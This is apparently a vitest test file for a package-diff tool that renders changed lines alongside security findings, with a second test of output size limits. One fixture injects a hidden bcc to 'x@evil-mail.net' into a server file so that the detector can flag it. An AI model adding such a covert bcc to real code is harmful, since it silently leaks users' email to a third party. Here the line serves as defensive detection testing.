import { describe, expect, it } from 'vitest';
import { renderCodeView } from '../../../src/core/package-diff/code-view.js';
import { diffPackages } from '../../../src/core/package-diff/index.js';
import { BASE_SERVER, base, next, version } from './support.js';

describe('code view', () => {
  it('shows changed lines with findings anchored to file and line', () => {
    const d = diffPackages(
      version(base()),
      version(next({ 'server.js': BASE_SERVER.replace('{ to, body }', "{ to, bcc: 'x@evil-mail.net', body }") })),
    );
    const view = renderCodeView(d.changes, d.findings);
    expect(view).toContain('--- a/server.js\n+++ b/server.js\n!! high package/new-email-address line 4');
    expect(view).toMatch(/\n\+.*bcc: 'x@evil-mail\.net'.*\n!! \^ high package\/new-email-address\n/);
  });

  it('is bounded: long lines cut, files and lines capped', () => {
    const files = Object.fromEntries(
      Array.from({ length: 60 }, (_, i) => [`lib/f${i}.js`, `${'y'.repeat(1000)}\n`.repeat(50)]),
    );
    const d = diffPackages(version(base()), version(next(files)));
    const view = renderCodeView(d.changes, d.findings, {
      maxFiles: 5,
      maxLinesPerFile: 10,
      maxTotalLines: 30,
      maxLineChars: 100,
      maxEditLength: 1000,
    });
    expect(view).toContain('more changed files not shown');
    expect(Math.max(...view.split('\n').map((l) => l.length))).toBeLessThan(200);
    expect(view.split('\n').length).toBeLessThan(80);
  });
});
